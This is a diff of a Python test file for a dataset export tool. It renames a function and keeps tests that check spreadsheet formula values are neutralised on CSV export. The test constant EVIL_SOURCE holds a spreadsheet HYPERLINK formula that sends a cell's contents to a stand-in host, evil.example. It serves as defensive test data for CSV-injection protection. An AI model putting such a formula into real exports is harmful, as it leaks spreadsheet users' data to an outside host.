@@ -19,10 +19,10 @@ from mmicd.dataset_export import (
     export_columns,
     file_name,
     may_export,
-    neutralise,
     number_text,
 )
 from mmicd.model import DIMENSIONS, MICRODATA_COLUMNS, OBS_COLUMNS, DatasetMeta, Kind, Status
+from mmicd.safe_export import csv_column
 
 EVIL_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -113,7 +113,7 @@ def test_progress_is_reported_per_piece(store, known):
     ("UN DESA", "UN DESA"), ("a=b", "a=b"), ("_T", "_T"), ("", ""),
 ])
 def test_neutralise_prefixes_only_what_a_spreadsheet_would_run(text, shown):
-    assert neutralise(pd.Series([text])).tolist() == [shown]
+    assert csv_column(pd.Series([text])).tolist() == [shown]
 
 
 def test_numbers_are_written_as_numbers():
